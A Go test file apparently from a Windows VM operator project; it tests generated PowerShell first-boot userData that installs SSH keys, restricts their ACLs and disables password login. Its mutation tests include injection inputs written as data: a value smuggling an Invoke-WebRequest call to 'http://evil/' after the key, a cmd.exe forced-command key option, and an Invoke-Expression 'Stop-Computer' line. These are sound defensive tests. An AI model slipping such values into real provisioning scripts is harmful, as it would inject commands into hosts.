package firstboot

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"strings"
	"testing"

	. "github.com/onsi/gomega"
	configv1 "github.com/openshift/api/config/v1"
	"golang.org/x/crypto/ssh"

	"github.com/openwmco/wmco/pkg/platform"
	"github.com/openwmco/wmco/pkg/userdata"
)

func ed25519Key(t testing.TB) ssh.PublicKey {
	t.Helper()
	pub, _, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	k, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func rsaKey(t testing.TB) ssh.PublicKey {
	t.Helper()
	priv, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	k, err := ssh.NewPublicKey(&priv.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func lookup(typ configv1.PlatformType) platform.Profile {
	p, _ := platform.Lookup(typ)
	return p
}

func render(t testing.TB, p platform.Profile, key ssh.PublicKey) []byte {
	t.Helper()
	out, err := userdata.Render(p, key)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameKeys(g Gomega, got []ssh.PublicKey, want ...ssh.PublicKey) {
	g.Expect(got).To(HaveLen(len(want)))
	for i := range want {
		g.Expect(got[i].Marshal()).To(Equal(want[i].Marshal()))
	}
}

func TestRoundTrip(t *testing.T) {
	keys := map[string]ssh.PublicKey{"ed25519": ed25519Key(t), "rsa": rsaKey(t)}
	for _, typ := range platform.Supported() {
		for kname, key := range keys {
			t.Run(string(typ)+"/"+kname, func(t *testing.T) {
				g := NewWithT(t)
				p := lookup(typ)
				res, err := Run(p, ImageFor(p), render(t, p, key))
				g.Expect(err).NotTo(HaveOccurred())
				sameKeys(g, res.AuthorizedKeys, key)
				g.Expect(res.SSHServer).To(BeTrue())
				g.Expect(res.KeyOnly).To(BeTrue())
				g.Expect(res.KeysACLRestricted).To(BeTrue())
				g.Expect(res.FirewallPorts).To(Equal([]int{22, 9182, 10250}))
				g.Expect(res.EnabledUser).To(Equal(p.Username))
				g.Expect(res.EC2LaunchRoutes).To(Equal(p.EC2Launch))
			})
		}
	}
}

// A platform whose agent runs the bare script (GCP's startup script).
func TestRoundTripBare(t *testing.T) {
	g := NewWithT(t)
	p := lookup(configv1.NonePlatformType)
	p.UserDataTags = false
	key := ed25519Key(t)
	res, err := Run(p, ImageFor(p), render(t, p, key))
	g.Expect(err).NotTo(HaveOccurred())
	sameKeys(g, res.AuthorizedKeys, key)
}

func TestImages(t *testing.T) {
	key := ed25519Key(t)
	for name, tc := range map[string]struct {
		platform configv1.PlatformType
		img      Image
		user     string
		err      string
	}{
		"vSphere template with Administrator disabled": {
			platform: configv1.VSpherePlatformType, img: Image{Accounts: []Account{{Name: "Administrator"}}}, user: "Administrator",
		},
		"AWS image without EC2Launch": {
			platform: configv1.AWSPlatformType, img: Image{Accounts: []Account{{Name: "Administrator", Enabled: true}}}, user: "Administrator",
		},
		"AWS image with an EC2Launch too old for add-routes": {
			platform: configv1.AWSPlatformType, img: Image{Accounts: []Account{{Name: "Administrator", Enabled: true}}, EC2LaunchVersion: "2.0.999"}, user: "Administrator",
		},
		"Azure image without capi": {
			platform: configv1.AzurePlatformType, img: Image{Accounts: []Account{{Name: "Administrator"}}}, user: "Administrator",
			err: "the script readies Administrator, but the operator logs in as capi",
		},
		"Azure image whose capi is disabled": {
			platform: configv1.AzurePlatformType, img: Image{Accounts: []Account{{Name: "Administrator"}, {Name: "capi"}}},
			err: "no enabled account",
		},
		"image with no account the script knows": {
			platform: configv1.NonePlatformType, img: Image{Accounts: []Account{{Name: "core", Enabled: true}}},
			err: "no enabled account",
		},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			p := lookup(tc.platform)
			res, err := Run(p, tc.img, render(t, p, key))
			if tc.err != "" {
				g.Expect(err).To(MatchError(ContainSubstring(tc.err)))
			} else {
				g.Expect(err).NotTo(HaveOccurred())
			}
			g.Expect(res.EnabledUser).To(Equal(tc.user))
			if p.EC2Launch {
				g.Expect(res.EC2LaunchRoutes).To(BeTrue())
			}
		})
	}
}

// The userData persists, so it runs at every boot: a key the operator
// rotated in stays, sshd comes back with key-only authentication.
func TestSecondBootKeepsRotatedKeys(t *testing.T) {
	g := NewWithT(t)
	p := lookup(configv1.AWSPlatformType)
	first, rotated := ed25519Key(t), rsaKey(t)
	data := render(t, p, first)
	vm := NewVM(p, ImageFor(p))
	_, err := vm.Boot(data)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(vm.WriteFile(AdministratorsKeysPath, string(ssh.MarshalAuthorizedKey(rotated)))).To(Succeed())
	res, err := vm.Boot(data)
	g.Expect(err).NotTo(HaveOccurred())
	sameKeys(g, res.AuthorizedKeys, rotated)
	g.Expect(res.KeyOnly).To(BeTrue())
	g.Expect(res.FirewallPorts).To(Equal([]int{22, 9182, 10250}), "no rule added twice")
	cfg, _ := vm.ReadFile(SSHDConfigPath)
	g.Expect(strings.Count(cfg, "PasswordAuthentication")).To(Equal(1))
}

// mutate applies an edit to rendered userData.
type mutation struct {
	edit func(s string) string
	err  string
	// sshWorks: the mutation breaks something other than SSH.
	sshWorks bool
}

func replaceLine(prefix, with string) func(string) string {
	return func(s string) string {
		lines := strings.Split(s, "\n")
		for i, l := range lines {
			if strings.HasPrefix(l, prefix) {
				lines[i] = with
			}
		}
		return strings.Join(lines, "\n")
	}
}

func TestMutationsAreRejected(t *testing.T) {
	key := ed25519Key(t)
	keyLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(key)))
	other := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(rsaKey(t))))
	for name, m := range map[string]mutation{
		"key line dropped": {
			edit: replaceLine("if (-not (Test-Path -LiteralPath $marker))", ""),
			err:  "cannot find path",
		},
		"ACL lines dropped": {
			edit: func(s string) string {
				return replaceLine("$acl", "")(replaceLine("Set-Acl", "")(s))
			},
			err: "which sshd ignores the file for",
		},
		"ACL that lets Authenticated Users read": {
			edit: func(s string) string {
				return strings.Replace(s, "(A;;FA;;;BA)'", "(A;;FA;;;BA)(A;;0x1200a9;;;AU)'", 1)
			},
			err: "which sshd ignores the file for",
		},
		"ACL with inheritance on": {
			edit: func(s string) string { return strings.Replace(s, "'D:P(", "'D:AI(", 1) },
			err:  "which sshd ignores the file for",
		},
		"SDDL with an owner": {
			edit: func(s string) string { return strings.Replace(s, "'D:P(", "'O:BAD:P(", 1) },
			err:  "is not a DACL in SDDL",
		},
		"quote injected after the key": {
			edit: func(s string) string {
				return strings.Replace(s, keyLine+"'", keyLine+"'; Invoke-WebRequest -Uri 'http://evil/'; '", 1)
			},
			err: "statement not understood",
		},
		"newline injected into the key": {
			edit: func(s string) string {
				return strings.Replace(s, keyLine, strings.Replace(keyLine, " ", "\n", 1), 1)
			},
			err: "statement not understood",
		},
		"key that does not parse": {
			edit: func(s string) string { return strings.Replace(s, keyLine, "ssh-ed25519 AAAAnotakey", 1) },
			err:  "line 1 of administrators_authorized_keys is not a public key",
		},
		"key with a forced command": {
			edit: func(s string) string { return strings.Replace(s, keyLine, "command=\"\"cmd.exe\"\" "+keyLine, 1) },
			err:  "is not a public key without options",
		},
		"doubled quote makes the key a literal quote": {
			edit: func(s string) string { return strings.Replace(s, keyLine, "''"+other, 1) },
			err:  "is not a public key",
		},
		"password authentication left on": {
			edit: func(s string) string {
				return strings.Replace(s, "'PasswordAuthentication no'", "'PasswordAuthentication yes'", 1)
			},
			err: "does not refuse passwords",
		},
		"sshd not restarted after the configuration": {
			edit: replaceLine("Restart-Service", ""),
			err:  "does not refuse passwords",
		},
		"sshd left manual": {
			edit: replaceLine("Set-Service", ""),
			err:  "not installed, automatic and running",
		},
		"configuration edited before sshd wrote it": {
			edit: replaceLine("Start-Service", ""),
			err:  "cannot find path",
		},
		"unknown statement": {
			edit: replaceLine("$ProgressPreference", "Invoke-Expression 'Stop-Computer'"),
			err:  "statement not understood",
		},
		"requires directive": {
			edit: replaceLine("$ProgressPreference", "#Requires -Version 7"),
			err:  "#requires is a directive",
		},
		"another capability": {
			edit: func(s string) string {
				return strings.Replace(s, "OpenSSH.Server~~~~0.0.1.0", "OpenSSH.Client~~~~0.0.1.0", 1)
			},
			err: "unknown to the image",
		},
		"variable used before it is set": {
			edit: replaceLine("$keys =", ""),
			err:  "$keys is used before it is set",
		},
		"EC2Launch routes dropped": {
			edit:     replaceLine("& $ec2launch run-task", ""),
			err:      "did not persist the instance metadata routes",
			sshWorks: true,
		},
		"download from elsewhere": {
			edit: func(s string) string {
				return strings.Replace(s, "https://s3.amazonaws.com/", "https://example.com/", 1)
			},
			err:      "the VM reaches only EC2Launch's download",
			sshWorks: true,
		},
		"missing envelope": {
			edit: func(s string) string {
				return strings.TrimSuffix(strings.TrimPrefix(s, "<powershell>"), "</powershell>\n<persist>true</persist>\n")
			},
			err: "envelope the first-boot agent of AWS runs",
		},
		"persist tag dropped": {
			edit: func(s string) string { return strings.TrimSuffix(s, "<persist>true</persist>\n") },
			err:  "envelope the first-boot agent of AWS runs",
		},
		"second script block": {
			edit: func(s string) string {
				return strings.Replace(s, "\n$ProgressPreference", "\n</powershell><powershell>\n$ProgressPreference", 1)
			},
			err: "second",
		},
		"CRLF": {
			edit: func(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") },
			err:  "carriage return",
		},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			p := lookup(configv1.AWSPlatformType)
			data := render(t, p, key)
			mutated := m.edit(string(data))
			g.Expect(mutated).NotTo(Equal(string(data)), "the mutation must change something")
			res, err := Run(p, ImageFor(p), []byte(mutated))
			g.Expect(err).To(MatchError(ContainSubstring(m.err)))
			usable := false
			for _, k := range res.AuthorizedKeys {
				if bytes.Equal(k.Marshal(), key.Marshal()) {
					usable = res.KeysACLRestricted && res.KeyOnly && res.SSHServer
				}
			}
			g.Expect(usable).To(Equal(m.sshWorks), "the result says whether SSH works")
		})
	}
}

func TestEnvelopeOnABarePlatform(t *testing.T) {
	g := NewWithT(t)
	p := lookup(configv1.NonePlatformType)
	data := render(t, p, ed25519Key(t))
	p.UserDataTags = false
	_, err := Run(p, ImageFor(p), data)
	g.Expect(err).To(MatchError(ContainSubstring("runs the bare script")))
}

func TestEC2LaunchElsewhereIsRejected(t *testing.T) {
	g := NewWithT(t)
	aws := lookup(configv1.AWSPlatformType)
	azure := lookup(configv1.AzurePlatformType)
	_, err := Run(azure, ImageFor(azure), render(t, aws, ed25519Key(t)))
	g.Expect(err).To(HaveOccurred())
	_, err = Run(lookup(configv1.VSpherePlatformType), ImageFor(lookup(configv1.VSpherePlatformType)), render(t, aws, ed25519Key(t)))
	g.Expect(err).To(MatchError(ContainSubstring("whose VMs have no EC2Launch")))
}

func TestDACL(t *testing.T) {
	for sddl, want := range map[string]bool{
		"D:P(A;;FA;;;SY)(A;;FA;;;BA)":                                     true,
		"D:PAI(A;;FA;;;BA)(A;;0x1f01ff;;;S-1-5-18)":                       true,
		"D:P(A;;FA;;;SY)":                                                 false,
		"D:(A;;FA;;;SY)(A;;FA;;;BA)":                                      false,
		"D:P(A;ID;FA;;;SY)(A;ID;FA;;;BA)":                                 false,
		"D:P(A;;FA;;;SY)(A;;FA;;;BA)(A;;FR;;;AU)":                         false,
		"D:P(A;;FA;;;SY)(A;;FA;;;BA)(D;;FA;;;AU)":                         false,
		"D:P(A;;FR;;;SY)(A;;FA;;;BA)":                                     false,
		inheritedKeysDACL:                                                 false,
		"O:BAD:P(A;;FA;;;SY)(A;;FA;;;BA)":                                 false,
		"D:P(A;;FA;;;SY)(A;;FA;;;BA":                                      false,
		"D:P(XA;;FA;;;SY)(A;;FA;;;BA)":                                    false,
		"D:P(A;;FA;11111111-1111-1111-1111-111111111111;;SY)(A;;FA;;;BA)": false,
	} {
		NewWithT(t).Expect(restrictedDACL(sddl)).To(Equal(want), sddl)
	}
}

func TestSSHDConfig(t *testing.T) {
	g := NewWithT(t)
	c, err := parseSSHDConfig(defaultSSHDConfig)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(c.keyOnly()).To(BeFalse())
	g.Expect(c.readsAdministratorsKeys()).To(BeTrue())
	c, err = parseSSHDConfig("PasswordAuthentication no\nPasswordAuthentication yes\n" + defaultSSHDConfig)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(c.keyOnly()).To(BeTrue(), "the first value wins")
	c, err = parseSSHDConfig("PasswordAuthentication no\nMatch User x\n PasswordAuthentication yes\n")
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(c.keyOnly()).To(BeFalse(), "a Match block allows passwords again")
	g.Expect(c.readsAdministratorsKeys()).To(BeFalse())
	_, err = parseSSHDConfig("PasswordAuthentication maybe\n")
	g.Expect(err).To(HaveOccurred())
	_, err = parseSSHDConfig("Bogus yes\n")
	g.Expect(err).To(MatchError(ContainSubstring("bad configuration option")))
}

// FuzzRun: Run never panics, whatever the userData; and what it accepts
// leaves a usable key.
func FuzzRun(f *testing.F) {
	key, err := ssh.NewPublicKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{3}, ed25519.SeedSize)).Public())
	if err != nil {
		f.Fatal(err)
	}
	for _, typ := range platform.Supported() {
		f.Add(string(typ), render(f, lookup(typ), key))
	}
	f.Add("AWS", []byte("<powershell>\n$x = Get-Acl -LiteralPath $y\n</powershell>\n<persist>true</persist>\n"))
	f.Add("None", []byte("<powershell>\n'\u2019'\n</powershell>\n<persist>true</persist>\n"))
	f.Fuzz(func(t *testing.T, typ string, data []byte) {
		p := lookup(configv1.PlatformType(typ))
		res, err := Run(p, ImageFor(p), data)
		if err == nil && (len(res.AuthorizedKeys) == 0 || !res.KeyOnly || !res.SSHServer || !res.KeysACLRestricted) {
			t.Fatalf("accepted a boot without usable key SSH: %+v", res)
		}
	})
}
